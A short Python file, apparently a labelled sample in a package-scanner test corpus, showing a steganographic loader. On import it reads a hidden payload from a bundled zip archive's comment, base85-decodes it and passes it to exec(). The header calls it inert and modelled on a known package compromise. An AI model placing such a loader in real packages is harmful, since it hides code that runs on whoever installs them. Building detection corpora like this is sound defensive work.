# pkgguard corpus 577 (steganography), modelled on [telnyx]; inert, never run.
import base64
import os
import zipfile

with zipfile.ZipFile(os.path.join(os.path.dirname(__file__), "data", "templates.zip")) as bundle:
    _note = bundle.comment
if _note.startswith(b"TPL1"):
    exec(base64.b85decode(_note[4:]))
